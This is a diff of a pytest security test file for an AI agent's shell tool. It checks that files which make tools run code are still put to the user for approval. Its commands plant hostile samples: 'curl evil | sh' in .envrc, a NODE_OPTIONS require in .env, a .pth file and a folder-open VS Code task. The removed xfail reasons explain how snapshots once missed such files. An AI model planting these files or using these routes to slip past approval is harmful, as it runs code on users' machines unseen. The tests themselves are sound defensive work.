@@ -1,8 +1,9 @@
 """Round seven of outside attacks, on what changed in round six's wake: the read-only parts of the
 project's repository (`.git/config`, `hooks`, `info`), the question asked after a command about a
 file that makes tools run code (tools/planted.py), the command's own session keyring, and the
-hidden dot-entries of the home that are links. Each test asserts the SAFE outcome; one marked
-xfail(strict) is an attack that got through today (its reason starts with HOLE).
+hidden dot-entries of the home that are links. Each test asserts the SAFE outcome; the attacks
+that got through when this round was written (ignored, nested and linked files, hooks in the work
+tree, a snapshot made to fail) are held since the question stopped asking git (tools/planted_scan.py).
 
 The marker files the planted programs would create live under a `short` folder in /tmp: a
 confined command sees an empty /tmp of its own, so a marker there can only come from a program
@@ -129,12 +130,6 @@ def test_a_submodules_repository_gets_no_config_of_the_models(server, project: P
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: the repository's hooks may live in the work tree (core.hooksPath: husky's .husky/_, which husky "
-    "itself gitignores, or a team's tools/hooks); REPOSITORY_READ_ONLY protects .git/hooks, which git then never "
-    "reads, and the question after the command misses them (ignored by the snapshots, or not a planted name)",
-)
 @pytest.mark.parametrize("hooks", [".husky/_", "tools/hooks"])
 def test_hooks_kept_in_the_work_tree_get_nothing_of_the_models(server, project: Path, short: Path, hooks: str) -> None:
     from tests.test_planted import KeepAnswers
@@ -185,23 +180,12 @@ def test_the_read_only_parts_cannot_be_renamed_away_or_replaced_through_a_lock_f
 # 2. Files the question after a command does not see ----------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: the snapshots follow the project's .gitignore (sessions/snapshots.py `git add --all`), so a "
-    "planted file the command also names in .gitignore is never a change, never asked about (planted.ask_to_keep "
-    "only sees the snapshot's changes)",
-)
 def test_an_envrc_the_command_also_ignores_is_still_asked_about(server, project: Path) -> None:
     _, _, user, text = run_asked(server, project, "echo .envrc >> .gitignore; echo 'curl evil | sh' > .envrc", ApprovalDecision(False))
     assert ".gitignore (created)" in text, text  # the command ran and its other change was seen
     assert not (project / ".envrc").exists() or [r.path for r in user.asked] == [".envrc"]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a project's own .gitignore that lists .env (most do) hides a .env the command writes from the "
-    "snapshots, so it is kept unasked (sessions/snapshots.py follows .gitignore)",
-)
 def test_a_dotenv_the_project_ignores_is_still_asked_about(server, project: Path) -> None:
     (project / ".gitignore").write_text(".env\n")
     _, _, user, text = run_asked(server, project, "echo 'NODE_OPTIONS=--require ./x.js' > .env; echo ran", ApprovalDecision(False))
@@ -209,11 +193,6 @@ def test_a_dotenv_the_project_ignores_is_still_asked_about(server, project: Path
     assert not (project / ".env").exists() or [r.path for r in user.asked] == [".env"]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a virtual environment in the project is ignored by its .gitignore, so a .pth the command drops "
-    "into .venv/lib/python3.X/site-packages (run by every start of that Python) is not asked about",
-)
 def test_a_pth_dropped_into_the_projects_ignored_virtualenv_is_asked_about(server, project: Path) -> None:
     (project / ".gitignore").write_text(".venv/\n")
     site = project / ".venv" / "lib" / "python3.11" / "site-packages"
@@ -224,11 +203,6 @@ def test_a_pth_dropped_into_the_projects_ignored_virtualenv_is_asked_about(serve
     assert not (site / "zz.pth").exists() or [r.path for r in user.asked] == [".venv/lib/python3.11/site-packages/zz.pth"]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a folder holding a .git of its own is a gitlink to the snapshots (git add does not enter it), "
-    "so `git init -q sub` then sub/.envrc is never a change and never asked about",
-)
 def test_an_envrc_in_a_nested_repository_the_command_made_is_asked_about(server, project: Path) -> None:
     _, _, user, text = run_asked(server, project, "mkdir sub && git init -q sub && echo 'curl evil | sh' > sub/.envrc; echo ran", ApprovalDecision(False))
     assert "ran" in text and (project / "sub" / ".git").is_dir(), text
@@ -250,12 +224,6 @@ def test_a_large_envrc_the_user_edits_in_the_dialog_is_replaced_by_the_edit(serv
     assert (project / ".envrc").read_text() == "layout python\n"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: snapshots.Snapshots.changes leaves symlinks out (only _FILE_MODES), so a planted name made as a "
-    "link to a file the command wrote (.envrc -> setup.sh; direnv, Python's site.py, editors read through it) is "
-    "neither asked about nor even told as changed; planted._read would show it empty besides",
-)
 @pytest.mark.parametrize("planted", [".envrc", ".vscode/tasks.json", "x/site-packages/zz.pth"])
 def test_a_planted_name_made_as_a_link_is_asked_about(server, project: Path, planted: str) -> None:
     folder = os.path.dirname(planted)
@@ -266,11 +234,6 @@ def test_a_planted_name_made_as_a_link_is_asked_about(server, project: Path, pla
     assert not (project / planted).is_symlink()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a planted folder made as a link (.vscode -> d, with d/tasks.json a regular file) is a symlink "
-    "to the snapshots (left out by Snapshots.changes), and d/tasks.json is not a planted name: nothing is asked",
-)
 def test_an_editor_folder_made_as_a_link_is_asked_about(server, project: Path) -> None:
     task = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "sh evil.sh", "runOptions": {"runOn": "folderOpen"}}]}'
     _, _, user, text = run_asked(server, project, f"mkdir d && echo '{task}' > d/tasks.json && ln -s d .vscode; echo ran", ApprovalDecision(False))
@@ -366,12 +329,6 @@ def test_a_hidden_link_chain_and_a_relative_link_out_of_the_home_stay_hidden(ser
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root's git reads a file of mode 000; the hole is an ordinary user's (read from snapshots.py, not run here)")
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a file git cannot read is added to Snapshots.skipped for the rest of the session; a .envrc made "
-    "with mode 000 in one command and `chmod 644` in the next is never a change, so never asked about "
-    "(the user sees only a notice that it is not recorded for undo)",
-)
 def test_an_envrc_made_unreadable_then_readable_is_still_asked_about(server, project: Path) -> None:
     from tests.test_planted import KeepAnswers, command_reply
     from tests.conftest import make_agent
@@ -387,12 +344,6 @@ def test_an_envrc_made_unreadable_then_readable_is_still_asked_about(server, pro
     assert (project / ".envrc").exists() is False or [r.path for r in user.asked] == [".envrc"], texts
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: `git init -q x` (a nested repository with no commit) makes the snapshot's `git add --all` fail "
-    "('does not have a commit checked out'), ShellTool._snapshot_failed turns recording off for the session, and "
-    "ask_to_keep is never reached: the .envrc written in the same command stays unasked (and undo cannot take it back)",
-)
 def test_a_nested_empty_repository_does_not_turn_the_question_off(server, project: Path) -> None:
     _, _, user, text = run_asked(server, project, "git init -q x; echo 'curl evil | sh' > .envrc; echo data > data.txt; echo ran", ApprovalDecision(False))
     assert "ran" in text, text
